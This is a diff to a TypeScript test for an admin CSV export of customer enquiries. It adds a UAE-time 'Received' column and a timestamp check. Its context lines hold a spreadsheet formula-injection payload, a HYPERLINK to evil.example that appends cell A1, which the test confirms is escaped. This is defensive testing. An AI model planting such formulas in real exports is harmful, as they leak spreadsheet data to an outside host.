@@ -4,6 +4,7 @@ import { type Connection, Types } from 'mongoose';
 import { PasswordHasher } from '../src/auth/password-hasher';
 import { TokenService } from '../src/auth/token.service';
 import { SubmissionPipelineService, submissionQuery } from '../src/enquiries/submission-pipeline.service';
+import { shopDateTime } from '../src/common/csv';
 import { SessionsService } from '../src/sessions/sessions.service';
 import { UsersService } from '../src/users/users.service';
 import { type AccountsApp, bearer, nextVisitorAddress, startAccountsApp } from './auth-app';
@@ -386,7 +387,7 @@ describe('the admin pipelines', () => {
     const csv = res.body as string;
     const lines = csv.split('\r\n');
     expect(lines[0]).toBe(
-      'Reference,Received,Status,Assignee,Sender,Sender e-mail,Sender phone,Signed-in customer,Language,Name,E-mail,Mobile,Address,Message,Files,Notes',
+      'Reference,Received (UAE time),Status,Assignee,Sender,Sender e-mail,Sender phone,Signed-in customer,Language,Name,E-mail,Mobile,Address,Message,Files,Notes',
     );
     // Two requests and a closing CRLF; the evil one is the newer but was made first: oldest last.
     expect(lines).toHaveLength(4);
@@ -394,6 +395,11 @@ describe('the admin pipelines', () => {
     expect(evilRow).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     expect(evilRow).not.toMatch(/,=HYPERLINK/);
     expect(evilRow).toContain(',New,,');
+    // Received on the shop's clock, as the admin screens show it (UTC+4).
+    const received = await db()
+      .collection('submissions')
+      .findOne({ _id: new Types.ObjectId(id) });
+    expect(evilRow).toContain(`,${shopDateTime(received?.createdAt as Date)},`);
     // The note is a cell that starts with its time, so it is not guarded; the "+1" inside stays as typed.
     expect(evilRow).toMatch(/: \+1 call back, ""urgent"""$/);
 
